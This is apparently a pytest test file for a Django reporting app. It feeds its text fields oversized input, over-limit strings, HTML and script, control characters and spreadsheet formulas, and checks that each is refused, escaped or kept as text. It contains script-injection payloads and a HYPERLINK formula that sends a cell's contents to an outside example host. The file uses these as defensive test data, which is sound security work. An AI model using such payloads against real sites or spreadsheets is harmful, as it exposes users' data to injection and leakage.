"""Every text field people type in, fed with 10 MB, with one character too many, with HTML and
script, with control characters and with what a spreadsheet would run as a formula.

* 10 MB: refused before any form sees it (Django's DATA_UPLOAD_MAX_MEMORY_SIZE), with a 400
  and nothing stored, and the page does not send the 10 MB back;
* one character over the field's limit: the form says which field and its limit, nothing stored;
* HTML: stored as typed, shown escaped on every page and literal in every generated file;
* control characters: dropped, so that every document can still be generated.
"""

from __future__ import annotations

import io
import zipfile

import docx
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from accounts.testing import login
from exports.builder import build_document
from exports.forms import NARRATIVE_MAX_LENGTH, RECIPIENTS_MAX_LENGTH
from exports.models import Narrative
from exports.testing import fetch_built, file_bytes
from exports.writers.pdf import render_html
from programs.forms import NOTE_MAX_LENGTH
from programs.models import TaskProgress
from reporting.actions import comments_of, do_open_period, do_save_values, do_submit, get_or_create_report, values_of
from reporting.models import Report
from reporting.spreadsheets import SHEET, build_template
from reporting.testing import GOOD_GRASSROOTS, report_steps
from reporting.validation import MAX_COMMENT, MAX_TEXT
from tests.bad_input.helpers import (
    CONTROL,
    IMG,
    SCRIPT,
    TEN_MB,
    add_elements,
    counts,
    csrf_client,
    escaped_in,
    raw_tags_in,
)

pytestmark = pytest.mark.django_db

SCHOOL = "AG.883.00001"
TASK = "task_II_1_01"
HTML = f"{SCRIPT} {IMG}"
NARRATIVE_TEXT = ["achievements", "shortcomings", "causes", "directions", "recipients"]
NARRATIVE_LINES = {"number": 20, "signer_on_behalf": 120, "signer_title": 120, "signer_name": 120}


def entry_url(period, code=SCHOOL):
    return reverse("reporting:entry", args=[period.id, code])


def narratives_url(unit="AG", kind="yearly_review", year=2024):
    return reverse("exports:narratives", args=[unit, kind, year])


def progress_url(program, task=TASK):
    return reverse("programs:task_progress", args=[program.code, task])


def submitted_report(world, period) -> Report:
    report = get_or_create_report(period, world.school)
    do_save_values(report, GOOD_GRASSROOTS, {}, world.reporter, 0)
    report.refresh_from_db()
    return do_submit(report, world.reporter, report.version)


def narrative_data(**fields) -> dict:
    return {"issued_on": "", **{name: "" for name in [*NARRATIVE_TEXT, *NARRATIVE_LINES]}, **fields}


def progress_data(note: str) -> dict:
    return {"status": "in_progress", "on_date": "2024-05-01", "note": note}


# --- 10 MB --------------------------------------------------------------------------------------

def _post_10_mb(client, world, program, period, field: str):
    """(who, url, form data) for a 10 MB value in `field`."""
    if field in ("workers__comment", "remarks"):
        return world.reporter, entry_url(period), {"version": 0, "save": "1", "workers": "40", field: TEN_MB}
    if field in ("return", "reopen"):
        report = submitted_report(world, period)
        who = world.approver if field == "return" else world.admin
        return who, reverse(f"reporting:{field}", args=[report.id]), {"version": report.version, "comment": TEN_MB}
    if field == "note":
        return world.admin, progress_url(program), progress_data(TEN_MB)
    return world.admin, narratives_url(), narrative_data(**{field: TEN_MB})


TEN_MB_FIELDS = ["workers__comment", "remarks", "return", "reopen", "note", *NARRATIVE_TEXT, *NARRATIVE_LINES]


@pytest.mark.parametrize("field", TEN_MB_FIELDS)
def test_10_mb_in_a_text_field_is_refused_and_not_stored(client, world, program, period, field):
    if field == "remarks":
        add_elements(program)
    user, url, data = _post_10_mb(client, world, program, period, field)
    login(client, user)
    before = counts()
    response = client.post(url, data)
    assert response.status_code == 400
    assert len(response.content) < 100_000, "the 10 MB are not sent back"
    assert counts() == before


def test_10_mb_through_the_csrf_check_is_refused_as_in_production(world, period):
    """In production the CSRF middleware reads the form first, and refuses the body there."""
    client = csrf_client(world.reporter, entry_url(period))
    before = counts()
    response = client.post(entry_url(period), {"csrfmiddlewaretoken": client.cookies["csrftoken"].value,
                                               "version": 0, "workers": "40", "workers__comment": TEN_MB})
    assert response.status_code == 400 and len(response.content) < 100_000
    assert counts() == before


def test_10_mb_gets_a_page_that_says_the_text_is_too_long(world, period, program):
    client = csrf_client(world.reporter, entry_url(period))
    response = client.post(entry_url(period), {"csrfmiddlewaretoken": client.cookies["csrftoken"].value,
                                               "version": 0, "workers__comment": TEN_MB})
    assert response.status_code == 400
    assert "quá dài" in response.content.decode() or "too long" in response.content.decode()


# --- one character too many ----------------------------------------------------------------------

def test_report_texts_over_their_limits_say_which_field(client, world, period, program):
    add_elements(program)
    login(client, world.reporter)
    before = counts()
    response = client.post(entry_url(period), {
        "version": 0, "save": "1", "workers": "40", "workers__comment": "x" * (MAX_COMMENT + 1),
        "remarks": "x" * (MAX_TEXT + 1)})
    assert response.status_code == 400
    errors = {name: [e.code for e in errs] for name, errs in response.context["form"].errors.as_data().items()}
    assert errors == {"workers__comment": ["max_length"], "remarks": ["max_length"]}
    assert f"{MAX_COMMENT:,}".replace(",", ".") in response.content.decode() or str(MAX_COMMENT) in \
        response.content.decode()
    assert counts() == before


def test_windows_line_breaks_count_as_one_character_as_the_browser_counts_them(client, world, period):
    """A textarea's maxlength counts a line break as one character, but the browser sends "\\r\\n"."""
    login(client, world.reporter)
    comment = ("x" * 199 + "\r\n") * 10  # 2,000 characters in the browser, 2,010 sent
    assert len(comment) == MAX_COMMENT + 10
    response = client.post(entry_url(period), {"version": 0, "save": "1", "workers": "40",
                                               "workers__comment": comment})
    assert response.status_code == 302
    stored = comments_of(Report.objects.get(period=period, unit=world.school))["workers"]
    assert len(stored) <= MAX_COMMENT and "\r" not in stored


def test_narratives_over_their_limits_say_which_field(client, world, program):
    login(client, world.admin)
    data = narrative_data(**{name: "x" * (NARRATIVE_MAX_LENGTH + 1) for name in NARRATIVE_TEXT})
    data["recipients"] = "x" * (RECIPIENTS_MAX_LENGTH + 1)
    data.update({name: "x" * (limit + 1) for name, limit in NARRATIVE_LINES.items()})
    before = counts()
    response = client.post(narratives_url(), data)
    assert response.status_code == 400
    errors = {name: [e.code for e in errs] for name, errs in response.context["form"].errors.as_data().items()}
    assert errors == {name: ["max_length"] for name in [*NARRATIVE_TEXT, *NARRATIVE_LINES]}
    assert counts() == before


def test_a_task_note_over_its_limit_is_refused(client, world, program):
    login(client, world.admin)
    before = counts()
    response = client.post(progress_url(program), progress_data("x" * (NOTE_MAX_LENGTH + 1)))
    assert response.status_code == 400
    assert [e.code for e in response.context["form"].errors.as_data()["note"]] == ["max_length"]
    assert counts() == before


def test_a_search_over_its_limit_is_refused_without_searching(client, world):
    login(client, world.admin)
    response = client.get(reverse("units:search"), {"q": TEN_MB})
    assert response.status_code == 400
    assert response.context["results"] == [] and len(response.context["query"]) <= 100
    # (the page's language switch still carries the whole address back: templates/base.html,
    # harmless in production, where the web server refuses such an address first)
    # many short words: each word is a condition of the query
    response = client.get(reverse("units:search"), {"q": "a " * 1000})
    assert response.status_code == 400
    response = client.get(reverse("units:search"), {"q": "a " * 1000}, headers={"HX-Request": "true"})
    assert response.status_code == 200 and 'role="alert"' in response.content.decode(), "htmx shows the message"


# --- HTML and script -----------------------------------------------------------------------------

def assert_escaped(html: str, text: str = HTML) -> None:
    assert not raw_tags_in(html), raw_tags_in(html)
    assert escaped_in(html, text) or all(escaped_in(html, part) for part in (SCRIPT, IMG)), "shown, escaped"


def test_html_in_report_texts_is_shown_escaped_everywhere(client, world, program, period):
    add_elements(program)
    login(client, world.reporter)
    data = {**{k: ("yes" if v else "no") if isinstance(v, bool) else v for k, v in GOOD_GRASSROOTS.items()},
            "coverage": "80", "volunteers": "3", "version": 0, "submit": "1", "remarks": HTML, "workers__comment": HTML}
    response = client.post(entry_url(period), data)
    assert response.status_code == 302, response.context["form"].errors
    report = Report.objects.get(period=period, unit=world.school)
    assert values_of(report)["remarks"] == HTML and comments_of(report)["workers"] == HTML, "stored as typed"
    assert report.status == Report.Status.SUBMITTED
    # the reporter's page (a value and a comment it can no longer edit)
    assert_escaped(client.get(entry_url(period)).content.decode())
    # the district's page, where it returns the report with a comment in HTML too
    login(client, world.approver)
    assert_escaped(client.get(entry_url(period)).content.decode())
    response = client.post(reverse("reporting:return", args=[report.id]), {"version": report.version,
                                                                            "comment": HTML})
    assert response.status_code == 302
    assert report_steps(report).filter(additional_data__comment=HTML).exists()
    login(client, world.reporter)
    page = client.get(entry_url(period)).content.decode()
    assert_escaped(page)
    assert page.count(SCRIPT.replace("<", "&lt;").replace(">", "&gt;")) >= 3, "value, comment and return comment"
    # the spreadsheet template holds the text as text
    workbook = load_workbook(io.BytesIO(build_template(period, world.long_xuyen)))
    cells = [c for row in workbook[SHEET].iter_rows() for c in row if c.value == HTML]
    assert len(cells) == 2 and all(c.data_type == "s" for c in cells)
    # and next year, the form shows it as last year's value, escaped
    next_year = do_open_period("year", 2025, 0, period.due_on.replace(year=2026), by=world.admin)
    assert_escaped(client.get(entry_url(next_year)).content.decode(), SCRIPT)


def test_a_report_text_that_looks_like_a_formula_stays_text_in_the_template(client, world, program, period):
    """A comment typed as "=1+2" or "=HYPERLINK(…)" must not become a formula the district's
    Excel runs, and the template must still upload back unchanged."""
    add_elements(program)
    login(client, world.reporter)
    formula = '=HYPERLINK("http://example.com/?"&A1,"Xem")'
    response = client.post(entry_url(period), {"version": 0, "save": "1", "workers": "40", "remarks": "=1+2",
                                               "workers__comment": formula})
    assert response.status_code == 302
    content = build_template(period, world.long_xuyen)
    workbook = load_workbook(io.BytesIO(content))
    ws = workbook[SHEET]
    assert {c.value for row in ws.iter_rows() for c in row if c.data_type == "f"} == set()
    assert {"=1+2", formula} <= {c.value for row in ws.iter_rows() for c in row}
    login(client, world.approver)
    response = client.post(reverse("reporting:spreadsheet_upload", args=[period.id, "AG.883"]),
                           {"file": SimpleUploadedFile("bao-cao.xlsx", content)})
    assert response.status_code == 200 and response.context["result"].ok, response.context["result"].errors


def test_a_unit_name_or_label_that_looks_like_a_formula_stays_text_in_every_xlsx(world, program, period):
    """The issuing body (A1 of every exported sheet), the template's title and its headers are
    names people typed: one starting with "=" must not become a formula either."""
    from exports.models import Kind
    from exports.writers import WRITERS

    formula = '=HYPERLINK("http://example.com/?"&A2,"Xem")'
    world.long_xuyen.name = formula
    world.long_xuyen.save(update_fields=["name"])
    element = program.data_elements.get(code="workers")
    element.label = "=1+2"
    element.save(update_fields=["label"])
    exported = load_workbook(io.BytesIO(WRITERS["xlsx"].write(
        build_document(program, world.long_xuyen, Kind.YEARLY_REVIEW, 2024))))
    template = load_workbook(io.BytesIO(build_template(period, world.long_xuyen)))
    for book in (exported, template):
        cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
        assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert all(ws["A1"].value == formula.upper() for ws in exported.worksheets)
    assert "=1+2" in [c.value for c in template[SHEET][3]]


def test_control_characters_are_dropped_so_the_template_can_be_built(client, world, program, period):
    add_elements(program)
    login(client, world.reporter)
    response = client.post(entry_url(period), {"version": 0, "save": "1", "workers": "40", "remarks": CONTROL,
                                               "workers__comment": CONTROL})
    assert response.status_code == 302
    report = Report.objects.get(period=period, unit=world.school)
    for text in (values_of(report)["remarks"], comments_of(report)["workers"]):
        assert not any(ch in text for ch in "\x0b\x0c\x1b\x07")
        assert "tab\there" in text, "tabs are kept in multi-line text"
    load_workbook(io.BytesIO(build_template(period, world.long_xuyen)))  # openpyxl would refuse them
    # NUL too (PostgreSQL cannot store it)
    response = client.post(entry_url(period), {"version": report.version, "save": "1", "workers": "40",
                                               "workers__comment": "a\x00b"})
    assert response.status_code == 302
    assert comments_of(report)["workers"] == "ab"


def test_html_in_narratives_is_escaped_on_pages_and_literal_in_documents(client, world, program, period):
    login(client, world.admin)
    data = narrative_data(**{name: f"{HTML}\n{HTML}" for name in NARRATIVE_TEXT})
    data.update({name: HTML[:limit] for name, limit in NARRATIVE_LINES.items()})
    data["signer_name"] = HTML
    response = client.post(narratives_url(), data)
    assert response.status_code == 302, response.context["form"].errors
    narrative = Narrative.objects.get()
    assert narrative.achievements == f"{HTML}\n{HTML}" and narrative.signer_name == HTML
    assert_escaped(client.get(narratives_url()).content.decode())
    preview = fetch_built(client, reverse("exports:preview", args=["AG", "yearly_review", 2024])).content.decode()
    assert "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM" in preview, "the built preview, not its progress page"
    assert_escaped(preview)
    assert not raw_tags_in(client.get(reverse("exports:index")).content.decode())
    # Word: the text is in the document as text, the XML escaped
    word = file_bytes(fetch_built(client, reverse("exports:download", args=["AG", "yearly_review", 2024, "docx"])))
    paragraphs = [p.text for p in docx.Document(io.BytesIO(word)).paragraphs]
    assert HTML in paragraphs
    xml = zipfile.ZipFile(io.BytesIO(word)).read("word/document.xml").decode()
    assert "<script>" not in xml and "&lt;script&gt;" in xml
    # Excel: no cell is a formula, whatever the text
    excel = file_bytes(fetch_built(client, reverse("exports:download", args=["AG", "yearly_review", 2024, "xlsx"])))
    workbook = load_workbook(io.BytesIO(excel))
    assert not [c for ws in workbook for row in ws.iter_rows() for c in row if c.data_type == "f"]
    # PDF: printed from the same HTML as the preview, escaped
    assert_escaped(render_html(build_document(program, world.province, "yearly_review", 2024)))


def test_control_characters_in_narratives_do_not_break_the_documents(client, world, program, period):
    login(client, world.admin)
    response = client.post(narratives_url(), narrative_data(achievements=CONTROL, signer_name="Nguyễn\x0bVăn A",
                                                            recipients="Như trên;\x0cLưu: VT"))
    assert response.status_code == 302
    narrative = Narrative.objects.get()
    assert narrative.signer_name == "Nguyễn Văn A" and narrative.recipients == "Như trên;\nLưu: VT"
    for fmt in ("docx", "xlsx"):
        built = fetch_built(client, reverse("exports:download", args=["AG", "yearly_review", 2024, fmt]))
        assert built.status_code == 200 and built["Content-Type"].startswith("application/vnd.openxmlformats")


def test_html_in_a_task_note_is_escaped(client, world, program):
    login(client, world.admin)
    response = client.post(progress_url(program), progress_data(HTML), headers={"HX-Request": "true"})
    assert response.status_code == 200
    assert TaskProgress.objects.get().note == HTML
    assert_escaped(response.content.decode())
    assert_escaped(client.get(program.get_absolute_url()).content.decode())


@pytest.mark.parametrize("payload", [SCRIPT, IMG])
def test_html_in_search_boxes_and_choices_is_escaped(client, world, program, payload):
    login(client, world.admin)
    page = client.get(reverse("units:search"), {"q": payload}).content.decode()
    assert not raw_tags_in(page) and escaped_in(page, payload)
    response = client.get(reverse("exports:index"), {"unit": payload, "kind": payload, "year": payload,
                                                     "format": payload})
    assert response.status_code == 200 and response.context["form"].errors
    assert not raw_tags_in(response.content.decode())
